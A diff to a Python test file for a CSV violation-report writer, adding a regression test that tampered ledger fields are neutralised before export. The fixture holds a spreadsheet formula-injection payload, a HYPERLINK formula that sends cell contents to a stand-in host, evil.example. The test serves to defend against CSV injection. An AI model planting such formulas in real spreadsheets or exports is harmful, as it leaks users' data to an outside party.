@@ -302,10 +302,25 @@ def test_report_csv_is_what_csv_writer_writes(tmp_path: Path, text: str) -> None
     writer.writerow([v.fingerprint, v.severity, *cells, "image", v.hosts, "open", "", "", ""])
     cells = map(csv_cell, (e.policy_id, "", e.subject, e.label, e.message))
     clock = sla_cells({"first_seen": e.first_seen, "due_at": e.due_at})
-    writer.writerow([e.fingerprint, e.severity, *cells, "", "", "resolved", *clock])
+    writer.writerow([csv_cell(e.fingerprint), csv_cell(e.severity), *cells, "", "", "resolved", *clock])
     assert text_in_file == expected.getvalue()
     table = list(csv.reader(io.StringIO(text_in_file, newline="")))
     assert len(table) == 3 and table[1][6] == csv_cell(text) and table[2][6] == csv_cell(text)
+
+
+def test_a_resolved_row_from_a_tampered_ledger_runs_no_formula(tmp_path: Path) -> None:
+    """A resolved row's fingerprint and severity come from the stored ledger, which only checks they
+    are text: a tampered entry is defused like inventory text (the hostile review of 2026-12-02)."""
+    stored = structs.replace(
+        LedgerEntry.from_violation(violation(9), 1_000), status="resolved", resolved_at=2_000,
+        fingerprint='=HYPERLINK("http://evil.example/?"&A1,"open")', severity="=2+5",
+    )  # fmt: skip
+    report = ViolationReport(LocalReportSink(tmp_path), BASE)
+    report.add_resolved(stored)
+    table = list(csv.reader(io.StringIO(gzip.decompress(Path(report.close()["csv"]).read_bytes()).decode())))
+    cells = dict(zip(STREAM_CSV_COLUMNS, table[1], strict=True))
+    assert cells["fingerprint"] == "'" + stored.fingerprint and cells["severity"] == "'=2+5"
+    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in table[1])
 
 
 def test_the_same_rows_make_the_same_bytes(tmp_path: Path) -> None:
